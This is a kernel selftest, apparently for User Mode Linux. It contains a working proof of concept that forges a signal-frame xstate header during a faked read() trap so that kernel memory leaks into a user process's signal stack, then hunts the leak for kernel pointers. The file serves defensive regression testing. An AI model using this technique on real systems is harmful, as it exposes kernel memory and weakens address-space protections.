// SPDX-License-Identifier: GPL-2.0
/*
 * The FP/xstate size in the signal frame is read twice.
 *
 * get_stub_state() checks the xstate size it finds in the frame on the
 * stub's signal stack against the host's; set_stub_state() reads the size
 * again from the same guest-writable memory and copies that many bytes of
 * the task's saved FP registers back into the frame, unchecked.  A process
 * that changes the header in between gets kernel memory lying after its
 * FP registers copied into the signal stack, where it can read it.
 *
 * The window is made as wide as needed by faking the trap (the unpatched
 * monitor believes the futex word): the process reports a read() from an
 * empty pipe, and while the kernel blocks in it the process fills the
 * signal stack page with a pattern, points mcontext.fpregs at the page's
 * start and writes a header there that claims a 4 KiB xstate.  The
 * parent then writes the byte the read() waits for, the monitor resumes
 * the task through set_stub_state(), and every byte past the host's real
 * xstate size that no longer holds the pattern came from the kernel.
 *
 * The hardened monitor must bound every size it reads from stub_data: no
 * byte of the pattern past the xstate size may change, or the process is
 * killed.  Its stub parks the process while a report is served, so there
 * the header is forged first, then the read() is reported.
 */
#include "stub_forge.h"

#define ATTEMPTS	5	/* per attacker */
#define ATTACKERS	3
#define FP_MAGIC1	0x46505853U
#define FP_MAGIC2	0x46505845U
#define SW_BYTES_OFF	464	/* struct _fpx_sw_bytes in the fxsave area */
#define PATTERN		0xa5

struct fpstate_shared {
	int stage;
	int hardened;		/* forged through the hardened report path */
	int attempts;
	int faked;		/* child: attempt whose fake report is out */
	int go;			/* parent: +n the kernel sleeps in read() n, -n not */
	int armed;		/* child: attempt whose header is rewritten */
	int resumed;		/* child: the monitor resumed the task */
	int served;		/* the faked read() returned the byte */
	unsigned int host_ext_size;	/* extended_size of a real frame */
	int leaked;		/* bytes past the xstate that changed */
	int first_leak;
	int nonzero;		/* ... of which not zero */
	int ptr_off;		/* a word there that looks like a UML kernel pointer */
	unsigned long ptr;
	unsigned char sigstack[STUB_PAGE];	/* copy after resume */
	char err[128];
};

enum { ST_START, ST_ATTACK, ST_DONE };

FIXTURE(stub_fpstate) {
	struct fpstate_shared *s;
};

FIXTURE_SETUP(stub_fpstate)
{
	ASSERT_STUB_FOUND();
	stub_tsc_calibrate();
	self->s = stub_shared_alloc(sizeof(*self->s));
	ASSERT_NE(NULL, self->s);
}

FIXTURE_TEARDOWN(stub_fpstate)
{
	munmap(self->s, sizeof(*self->s));
}

static char flag;	/* the faked read() lands here: READ_ONCE() */

/*
 * One try.  Returns 1 if the monitor resumed the task after the forged
 * header was in place, 0 if the fake was not served, -1 on a bad layout.
 */
static int fpstate_try_once(struct fpstate_shared *s, int rfd, int n)
{
	struct unpatched_stub_data *d = stub_data();
	unsigned char *ss;
	unsigned int ext;
	siginfo_t *info;
	mcontext_t *mc;
	unsigned long end;
	int i, go;

	syscall(SYS_getppid);		/* a fresh trap frame */
	if (stub_last_frame(&info, &mc))
		return -1;
	ss = d->sigstack;
	i = (unsigned long)mc->fpregs & (STUB_PAGE - 1);
	if (READ_ONCE(*(unsigned int *)(ss + i + SW_BYTES_OFF)) != FP_MAGIC1)
		return -1;
	s->host_ext_size = READ_ONCE(*(unsigned int *)(ss + i + SW_BYTES_OFF + 4));

	stub_fake_syscall(SYS_read, rfd, (long)&flag, 1);
	__atomic_store_n(&s->faked, n, __ATOMIC_SEQ_CST);

	/* the parent tells us whether the kernel sleeps in the read() */
	end = stub_tsc_deadline(10000);
	do
		go = __atomic_load_n(&s->go, __ATOMIC_SEQ_CST);
	while (go != n && go != -n && !stub_tsc_passed(end));
	if (go != n) {
		syscall(SYS_getppid);
		return 0;
	}

	/* forge the header for set_stub_state() */
	for (i = 0; i < (int)STUB_PAGE; i++)
		WRITE_ONCE(ss[i], PATTERN);
	mc->fpregs = (void *)(unsigned long)ss;	/* offset 0 in the page */
	WRITE_ONCE(*(unsigned int *)(ss + SW_BYTES_OFF), FP_MAGIC1);
	WRITE_ONCE(*(unsigned int *)(ss + SW_BYTES_OFF + 4), STUB_PAGE);
	WRITE_ONCE(*(unsigned int *)(ss + STUB_PAGE - 4), FP_MAGIC2);
	__atomic_store_n(&s->armed, n, __ATOMIC_SEQ_CST);

	/* the read() returns, the monitor resumes the task */
	end = stub_tsc_deadline(5000);
	while (__atomic_load_n(&d->futex, __ATOMIC_SEQ_CST) !=
	       STUB_FUTEX_IN_CHILD)
		if (stub_tsc_passed(end))
			break;
	if (READ_ONCE(d->futex) == STUB_FUTEX_IN_CHILD) {
		memcpy(s->sigstack, (const void *)ss, STUB_PAGE);
		s->resumed = 1;
	}
	syscall(SYS_getppid);
	s->served = READ_ONCE(flag) == 'x';

	ext = s->host_ext_size;
	if (s->resumed && ext > 4 && ext - 4 < STUB_PAGE - 4) {
		for (i = ext - 4; i < (int)STUB_PAGE - 4; i++) {
			if (s->sigstack[i] == PATTERN)
				continue;
			if (s->first_leak < 0)
				s->first_leak = i;
			s->leaked++;
			s->nonzero += s->sigstack[i] != 0;
		}
		/* UML links the kernel at 0x60000000, physmem follows it */
		for (i = (ext - 4 + 7) & ~7; i + 8 <= (int)STUB_PAGE - 4; i += 8) {
			unsigned long w;

			memcpy(&w, &s->sigstack[i], 8);
			if (w >= 0x60000000UL && w < 0x100000000UL &&
			    (w & 0xffffffffUL) != 0xa5a5a5a5UL) {
				s->ptr_off = i;
				s->ptr = w;
				break;
			}
		}
	}
	return s->resumed;
}

/* Bytes below the frame the stub may use for its own calls after a report */
#define STUB_CALL_ROOM	256

/* Does @off hold one of the words of the forged header? */
static int forged_word(unsigned int off)
{
	return (off >= SW_BYTES_OFF && off < SW_BYTES_OFF + 8) ||
	       off >= STUB_PAGE - 4;
}

/*
 * One try against the hardened report path.  Returns 1 if the monitor
 * answered the forged read(), -1 on a layout it cannot forge with.
 */
static int fpstate_try_hardened(struct fpstate_shared *s, int rfd, int n)
{
	unsigned char *page = (unsigned char *)stub_frames();
	unsigned int mc_off, uc_off, fp, ext, i;
	mcontext_t *mc;

	/* fault in every page a forged report touches, then look */
	syscall(SYS_getppid);
	if (stub_forge(0, SIGSYS, SYS_getppid, 0, 0, 0))
		return -1;
	mc_off = offsetof(struct hardened_stub_frames, sigstack) +
		 READ_ONCE(stub_frames()->mctx_offset);
	uc_off = mc_off - offsetof(ucontext_t, uc_mcontext);
	if (mc_off + sizeof(*mc) > STUB_PAGE ||
	    uc_off < SW_BYTES_OFF + 8 + STUB_CALL_ROOM + 8)
		return -1;
	mc = (mcontext_t *)(page + mc_off);
	fp = (unsigned long)mc->fpregs & (STUB_PAGE - 1);
	if (fp + SW_BYTES_OFF + 8 > STUB_PAGE ||
	    READ_ONCE(*(unsigned int *)(page + fp + SW_BYTES_OFF)) != FP_MAGIC1)
		return -1;
	ext = READ_ONCE(*(unsigned int *)(page + fp + SW_BYTES_OFF + 4));
	s->host_ext_size = ext;
	if (fp + ext > STUB_PAGE)
		return -1;

	/*
	 * The pattern: below the frame, less the room the stub's own calls
	 * take after the answer, and above the real xstate.  The header
	 * claims a 4 KiB xstate at the start of the page.
	 */
	for (i = 8; i < uc_off - 8 - STUB_CALL_ROOM; i++)
		WRITE_ONCE(page[i], PATTERN);
	for (i = fp + ext; i < STUB_PAGE; i++)
		WRITE_ONCE(page[i], PATTERN);
	mc->fpregs = (void *)page;
	WRITE_ONCE(*(unsigned int *)(page + SW_BYTES_OFF), FP_MAGIC1);
	WRITE_ONCE(*(unsigned int *)(page + SW_BYTES_OFF + 4), STUB_PAGE);
	WRITE_ONCE(*(unsigned int *)(page + STUB_PAGE - 4), FP_MAGIC2);

	/* parked until the parent writes the byte the read() waits for */
	__atomic_store_n(&s->faked, n, __ATOMIC_SEQ_CST);
	__atomic_store_n(&s->armed, n, __ATOMIC_SEQ_CST);
	if (stub_forge(0, SIGSYS, SYS_read, rfd, (long)&flag, 1))
		return -1;
	memcpy(s->sigstack, page, STUB_PAGE);
	s->resumed = 1;
	s->served = READ_ONCE(flag) == 'x';

	for (i = 8; i < STUB_PAGE; i++) {
		if ((i >= uc_off - 8 - STUB_CALL_ROOM && i < fp + ext) ||
		    forged_word(i) || s->sigstack[i] == PATTERN)
			continue;
		if (s->first_leak < 0)
			s->first_leak = i;
		s->leaked++;
		s->nonzero += s->sigstack[i] != 0;
	}
	return 1;
}

/* Reset what a try reports, and fault in what it touches. */
static void fpstate_prepare(struct fpstate_shared *s, int n)
{
	s->attempts = n;
	s->resumed = 0;
	s->leaked = 0;
	s->first_leak = -1;
	s->nonzero = 0;
	s->ptr_off = -1;
	WRITE_ONCE(flag, 0);
	stub_prefault(s, sizeof(*s));
	stub_prefault((void *)&flag, 1);
	stub_prefault_stack(65536);
}

static void fpstate_child(struct fpstate_shared *s, int rfd)
{
	int i, r = 0;

	stub_prefault(s, sizeof(*s));
	if (stub_drop_privs()) {
		snprintf(s->err, sizeof(s->err), "setuid failed");
		_exit(1);
	}
	s->stage = ST_ATTACK;
	s->hardened = !stub_find_report();
	for (i = 0; i < ATTEMPTS; i++) {
		fpstate_prepare(s, i + 1);
		if (s->hardened)
			r = fpstate_try_hardened(s, rfd, i + 1);
		else
			r = fpstate_try_once(s, rfd, i + 1);
		if (r < 0) {
			snprintf(s->err, sizeof(s->err), "%s",
				 s->hardened ? "the hardened frame could not be forged" :
				 "stub_data is not laid out as on the unpatched base");
			break;
		}
		if (r > 0)
			break;
	}
	s->stage = ST_DONE;
	_exit(0);
}

/* Log formats, kept on one line so that they can be grepped for */
#define ATTACKER_STATE_FMT "attacker %s, stage %d, %d attempt(s), read served %d, resumed %d, host xstate size %u"

/*
 * Fork an attacker and serve its attempts.  Returns 1 with its *@status
 * once it ended, 0 if it had to be killed, -1 if it could not start.
 */
static int fpstate_run_attacker(struct fpstate_shared *s, int *status)
{
	int p[2], handled = 0, dead = 0;
	unsigned long end;
	pid_t pid;

	memset(s, 0, sizeof(*s));
	if (pipe(p))
		return -1;
	fflush(NULL);
	pid = fork();
	if (pid < 0)
		return -1;
	if (pid == 0) {
		close(p[1]);
		fpstate_child(s, p[0]);
	}
	close(p[0]);

	/* confirm the kernel sleeps in the faked read(), then wake it */
	while (s->stage != ST_DONE && !dead) {
		int n = __atomic_load_n(&s->faked, __ATOMIC_SEQ_CST);
		char st;

		dead = waitpid(pid, status, WNOHANG) == pid;
		if (!n || n == handled) {
			stub_sleep_ms(5);
			continue;
		}
		handled = n;
		end = stub_now_ms() + 2000;
		while ((st = stub_proc_state(pid)) != 'S' &&
		       stub_now_ms() < end)
			stub_sleep_ms(5);
		if (st != 'S') {
			/* the fake report was not served */
			__atomic_store_n(&s->go, -n, __ATOMIC_SEQ_CST);
			continue;
		}
		__atomic_store_n(&s->go, n, __ATOMIC_SEQ_CST);
		end = stub_now_ms() + 5000;
		while (__atomic_load_n(&s->armed, __ATOMIC_SEQ_CST) != n &&
		       stub_now_ms() < end)
			stub_sleep_ms(1);
		if (write(p[1], "x", 1) != 1)
			perror("cannot wake the faked read()");
	}
	close(p[1]);
	if (dead || stub_wait_child(pid, 30000, status))
		return 1;
	stub_kill_wait(pid, 5000, status);
	return 0;
}

TEST_F_TIMEOUT(stub_fpstate, xstate_size_change_does_not_leak, 120)
{
	struct fpstate_shared *s = self->s;
	char buf[64], hex[3 * 32 + 1];
	int status, i, n, r;

	for (n = 1; n <= ATTACKERS; n++) {
		r = fpstate_run_attacker(s, &status);
		ASSERT_LE(0, r);
		if (!r)
			STUB_FAIL(return, "attacker still alive (stage %d, attempt %d)",
				  s->stage, s->attempts);
		if (!stub_fake_tripped(status) || s->hardened)
			break;
		TH_LOG("attacker %d tripped over a real signal; trying a fresh one",
		       n);
	}
	if (n > ATTACKERS)
		STUB_FAIL(return, "every attacker tripped: nothing tested");
	TH_LOG(ATTACKER_STATE_FMT, stub_status_str(status, buf, sizeof(buf)), s->stage, s->attempts,
	       s->served, s->resumed, s->host_ext_size - 4);
	if (s->stage < ST_ATTACK)
		STUB_FAIL(return, "set-up failed: %s", s->err);
	if (s->err[0])
		TH_LOG("%s", s->err);
	if (s->leaked > 0) {
		for (i = 0; i < 32 && s->first_leak + i < (int)STUB_PAGE; i++)
			snprintf(hex + 3 * i, 4, "%02x ",
				 s->sigstack[s->first_leak + i]);
		if (s->ptr_off >= 0)
			TH_LOG("kernel pointer %#lx at +%d of the signal stack",
			       s->ptr, s->ptr_off);
		STUB_VULNERABLE(return,
				"uid %d faked a read() trap, grew the xstate size in its signal frame to %lu %s, and got %d bytes (%d non-zero) of kernel memory after its %u bytes of FP registers copied into its signal stack (at +%d: %s)",
				STUB_NOBODY, STUB_PAGE,
				s->hardened ? "before the forged report" :
					      "while the kernel slept",
				s->leaked,
				s->nonzero, s->host_ext_size - 4,
				s->first_leak, hex);
	}
	if (s->stage == ST_DONE && s->hardened && !s->resumed)
		STUB_FAIL(return,
			  "the forged read() report was not answered: nothing tested");
	if (s->stage == ST_DONE) {
		ASSERT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 0);
		TH_LOG("defended: no kernel memory reached the signal stack%s",
		       s->hardened ? " (forged through the hardened report path)" : "");
		return;
	}
	if (!stub_defended_kill(status))
		STUB_FAIL(return, "attacker died in an unexpected way");
	TH_LOG("defended: the attacker was killed");
}

TEST_HARNESS_MAIN
